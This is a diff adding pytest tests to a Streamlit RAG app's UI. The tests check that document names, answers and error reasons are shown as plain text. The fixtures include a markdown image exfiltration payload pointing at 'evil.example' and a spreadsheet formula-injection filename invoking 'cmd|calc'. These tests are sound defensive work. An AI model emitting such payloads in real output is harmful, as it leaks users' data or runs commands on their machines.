@@ -9,6 +9,8 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from ragapp.ui import api, prometheus
+from ragkit.markup import plain
+from ragkit_testing.pages import HOSTILE, markdown_of, pictures
 
 LINE_ENDS = "before\u2028between\u2029and\x85after"
 SOURCE = {"document": "cat.md", "document_id": "1", "chunk": 0, "text": "Minka <b>sleeps</b>", "score": 0.81}
@@ -96,7 +98,7 @@ def test_an_answer_is_shown_with_its_sources(backend: Callable[[Handler, Handler
     displayed = [element.value for element in app.markdown]
     shown = "She is called Minka [1]. !\\[x](http://elsewhere/)" + LINE_ENDS
     assert shown in displayed, "and no picture is fetched"
-    assert any("cat.md" in word and "0.81" in word for word in displayed)
+    assert any(plain("cat.md") in word and "0.81" in word for word in displayed)
     assert [element.value for element in app.text] == ["Minka <b>sleeps</b>"], "as text, not as markup"
 
 
@@ -126,3 +128,83 @@ def test_without_the_api_every_page_says_so(
 ) -> None:
     backend(down, down)
     assert "The API does not answer" in run(page).error[0].value
+
+
+def hostile(request: httpx.Request) -> httpx.Response:
+    """Answer with a document's name, or a reason, that tries to be a picture."""
+    path = request.url.path
+    if path == "/api/query":
+        events = [
+            ("sources", {"sources": [SOURCE | {"document": HOSTILE, "text": HOSTILE}]}),
+            ("token", {"text": f"!{HOSTILE} !"}),
+            ("token", {"text": "![a](http://evil.example/?d=secret)"}),
+            ("error", {"detail": HOSTILE, "status": 503}),
+        ]
+        return httpx.Response(200, text="".join(f"event: {n}\ndata: {json.dumps(d)}\n\n" for n, d in events))
+    if path == "/api/ready":
+        return httpx.Response(503, json={"dependencies": [{"name": HOSTILE, "ok": False, "detail": HOSTILE}]})
+    if path == "/api/documents":
+        named = DOCUMENT | {"name": "=1+2+cmd|calc!A0.md", "reason": "@reason"}
+        return httpx.Response(200, json={"total": 1, "documents": [named]})
+    return httpx.Response(400, json={"detail": HOSTILE})
+
+
+def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(
+    backend: Callable[[Handler, Handler], None],
+) -> None:
+    backend(hostile, hostile)
+    app = run(ask_page)
+    app.chat_input[0].set_value(f"What is {HOSTILE}?").run()
+    shown = "\n".join(markdown_of(app))
+    assert shown.count("evil") >= 5, "question, name, answer and reason are shown"
+    assert pictures(app) == []
+    assert plain(HOSTILE) in shown
+    app.run()
+    assert pictures(app) == [], "nor when the conversation is shown again"
+    status = run(status_page)
+    assert plain(HOSTILE) in "\n".join(markdown_of(status))
+    assert pictures(status) == []
+
+
+def test_the_reason_of_a_refused_upload_is_no_markdown(
+    backend: Callable[[Handler, Handler], None],
+) -> None:
+    backend(lambda _: httpx.Response(415, json={"detail": f"{HOSTILE}: not supported"}), down)
+
+    def page() -> None:
+        from types import SimpleNamespace
+
+        from ragapp.ui import documents
+
+        file = SimpleNamespace(name="a.md", type="", file_id="1", getvalue=lambda: b"", close=lambda: None)
+        documents._upload([file])
+
+    app = run(page)
+    assert app.error[0].value == plain(f"{HOSTILE}: not supported")
+    assert pictures(app) == []
+
+
+def test_the_name_of_an_accepted_upload_is_no_markdown(
+    backend: Callable[[Handler, Handler], None],
+) -> None:
+    backend(lambda _: httpx.Response(202, json={"duplicate": False}), down)
+
+    def page() -> None:
+        from types import SimpleNamespace
+
+        from ragapp.ui import documents
+        from ragkit_testing.pages import HOSTILE
+
+        file = SimpleNamespace(name=HOSTILE, type="", file_id="1", getvalue=lambda: b"", close=lambda: None)
+        documents._upload([file])
+
+    app = run(page)
+    assert app.toast[0].value == plain(f"{HOSTILE} is queued for ingestion")
+    assert pictures(app) == []
+
+
+def test_the_table_exports_no_formula(backend: Callable[[Handler, Handler], None]) -> None:
+    backend(hostile, down)
+    table = run(documents_page).dataframe[0].value
+    assert list(table["Name"]) == ["'=1+2+cmd|calc!A0.md"]
+    assert list(table["Note"]) == ["'@reason"]
